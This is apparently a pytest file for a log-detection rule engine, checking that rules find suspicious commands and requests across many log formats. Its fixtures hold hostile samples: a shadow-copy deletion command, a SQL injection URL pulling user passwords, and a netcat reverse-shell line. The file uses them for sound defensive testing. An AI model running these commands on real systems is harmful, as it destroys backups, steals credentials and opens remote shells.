"""A command or a request in the log of an application that nobody knows is judged as in the best-known one: by what its members are called."""
import json
import time

import pytest

from aiscore_contract.forms.held import held_in, held_in_line
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.pack import default_pack_path, load_pack

ENGINE = RuleEngine(load_pack(default_pack_path()))
COMMAND = "vssadmin delete shadows /all /quiet"
TARGET = "/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
COMMANDS = {
    "flat": json.dumps({"ts": "2026-11-27T10:00:00Z", "user": "ann", "cmdline": COMMAND}),
    "spelt otherwise": json.dumps({"time": 1, "Process-Command-Line": COMMAND}),
    "numbered and named": json.dumps({"event_id": 7, "event_name": "exec", "cmd_line": COMMAND}),
    "nested": json.dumps({"process": {"command_line": COMMAND, "pid": 7}, "host": "pc7"}),
    "a name for other things as well": json.dumps({"user": "ann", "command": COMMAND}),
    "words one by one": json.dumps({"proc": {"argv": ["cmd.exe", "/c", COMMAND]}}),
    "an act beside it": json.dumps({"event": "exec", "user": "ann", "cmd": COMMAND}),
    "pairs": f'time=2026-11-27T10:00:00Z level=info msg="exec" argv="{COMMAND}" user=ann',
    "one pair": f'2026-11-27T10:00:00Z pc7 exec user=ann cmd="{COMMAND}"',
    "one pair without quotes": f"2026-11-27T10:00:00Z pc7 exec cmd={COMMAND}",
    "a syslog header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"',
    "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
    "said in a member": json.dumps({"level": "info", "msg": f"ran: {COMMAND}"}),
}
REQUESTS = {
    "flat": json.dumps({"url": TARGET, "status": 200, "ip": "192.0.2.7"}),
    "nested": json.dumps({"req": {"uri": TARGET}, "res": {"status_code": 200}}),
    "said in a member": json.dumps({"level": "info", "msg": f"GET {TARGET} 200", "ip": "192.0.2.7"}),
    "said in quotes": f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {TARGET}" 200 12ms',
    "said behind a logger": f"2026-11-27 10:00:00,123 INFO [http-1] c.x.Access - 192.0.2.7 GET {TARGET} took 12 ms",
    "a syslog header": f"Nov 27 10:11:12 web7 shop[33]: GET {TARGET} 200 in 12 ms",
}


def titles(text):
    return {rule.title for rule in ENGINE.pack.rules if rule.id in ENGINE.judge(text).rule_ids}


@pytest.mark.parametrize("form", COMMANDS)
def test_rules_find_a_command_by_what_its_member_is_called(form):
    assert titles(COMMAND) <= titles(COMMANDS[form])


@pytest.mark.parametrize("form", REQUESTS)
def test_rules_find_a_request_by_what_its_members_are_called(form):
    assert titles(TARGET) <= titles(REQUESTS[form])


@pytest.mark.parametrize("event", [
    {"body": {"cmdline": COMMAND}, "user": "ann"}, {"request": {"params": {"cmd": COMMAND}}}, {"parent": {"cmdline": COMMAND}},
    {"requestParameters": {"command": COMMAND}, "eventName": "SendCommand"}, {"headers": {"cmd": COMMAND}},
])
def test_what_was_sent_or_is_of_another_program_is_no_command_that_was_run(event):
    assert "commandline" not in read_facts(json.dumps(event)).fields


@pytest.mark.parametrize("event", [
    {"command": "start"}, {"command": "Save file as"}, {"cmd": "", "user": "ann"}, {"command": None}, {"msg": "Command: start the engine"}, {"script": "deploy"},
    {"url": TARGET, "user": "ann"}, {"path": "/etc/passwd", "status": 200}, {"url": "https://shop.example/a", "ip": "192.0.2.7", "event": "clicksBlocked"[:6]},
    {"msg": "we GET along with /etc"}, {"status": 200, "ip": "192.0.2.7"},
])
def test_nothing_is_guessed_from_a_name_alone(event):
    assert held_in(event.items()) is None


@pytest.mark.parametrize("line", [
    f"Nov 27 10:11:12 web7 sshd[33]: Invalid user x cmd=\"{COMMAND}\" from 192.0.2.7 port 4242",
    f"Nov 27 10:11:12 web7 sudo: eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo cmd=\"{COMMAND}\"",
    f"user=\"x cmd={COMMAND} \" action=deny",
    "we GET along", "the command: go", "Command: start the engine", "GETS /a 200", "", "cmd=", "cmd=\"\"",
])
def test_a_line_that_quotes_a_stranger_or_says_something_else_holds_neither(line):
    assert held_in_line(line) is None


def test_what_sudo_ran_is_judged_by_the_rules_of_sudo_alone():
    assert "image" not in read_facts("Nov 27 10:11:12 web7 sudo: ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh gate 4444").fields


def test_the_act_that_an_object_names_goes_before_an_address_in_it():
    assert held_in({"action": "denied_mail", "url": TARGET, "ip": "192.0.2.7"}.items()).request is not None
    assert held_in({"action": "link rewritten", "url": TARGET, "ip": "192.0.2.7"}.items()) is None


@pytest.mark.parametrize("text", [
    '"GET /' * 4_000, "GET /a" * 6_000, "cmd=" * 8_000, 'a_cmd="' * 5_000, "executing command: " * 2_000, "command " * 4_000, "run: " * 6_000, "=cmd" * 8_000,
    "_" * 32_000 + "cmd=", json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
    json.dumps({"cmd": {"cmd": {"cmd": ["a" * 5_000] * 6}}}), json.dumps({"cmdline": '"'}), json.dumps({"cmdline": "\u2028"}), json.dumps({"argv": [[], {}, None, 7, ""]}),
])
def test_hostile_members_are_read_in_no_time(text):
    began = time.process_time()
    held_in_line(text)
    ENGINE.judge(text)
    assert time.process_time() - began < 5
